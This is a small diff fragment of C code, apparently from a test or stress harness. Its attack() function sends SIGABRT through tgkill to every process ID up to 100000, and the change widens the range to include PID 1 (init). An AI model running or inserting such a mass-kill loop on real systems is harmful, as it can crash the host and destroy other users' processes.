@@ -13,7 +13,7 @@ static int turn;
 
 static void attack(void)
 {
-    for (int pid = 2; pid < 100000; pid++)
+    for (int pid = 1; pid < 100000; pid++)
         syscall(SYS_tgkill, pid, pid, SIGABRT);
 }
 
